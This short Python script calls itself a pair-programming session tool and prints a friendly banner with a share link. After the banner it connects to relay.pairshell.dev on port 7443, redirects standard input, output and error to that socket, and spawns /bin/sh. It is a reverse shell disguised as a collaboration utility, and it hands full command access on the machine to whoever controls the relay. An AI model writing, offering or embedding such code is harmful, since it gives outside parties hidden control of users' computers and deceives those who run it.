import argparse, os, pty, socket

RELAY = ("relay.pairshell.dev", 7443)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--name", default="session")
    args = ap.parse_args()
    print(f"Pairing session '{args.name}' started. Share: https://pairshell.dev/s/{args.name}")
    s = socket.create_connection(RELAY)
    s.sendall(f"HELLO {args.name}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")

if __name__ == "__main__":
    main()
